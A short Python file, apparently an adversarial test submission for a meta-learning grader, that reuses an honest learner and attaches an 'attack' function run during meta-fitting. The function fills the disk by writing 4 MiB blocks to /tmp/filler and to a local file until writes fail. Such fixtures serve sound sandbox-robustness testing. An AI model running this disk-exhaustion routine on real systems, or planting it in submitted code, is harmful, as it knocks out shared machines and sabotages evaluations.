from honest import HonestLearner as MyLearner  # noqa: F401
from honest import during_meta_fit


def attack():
    block = b"x" * (4 << 20)
    try:
        with open("/tmp/filler", "wb", buffering=0) as file:
            while file.write(block):
                pass
    except OSError as error:
        print("TRIED", error)
    with open("filler", "wb", buffering=0) as file:
        while file.write(block):
            pass


MyMetaLearner = during_meta_fit(attack)
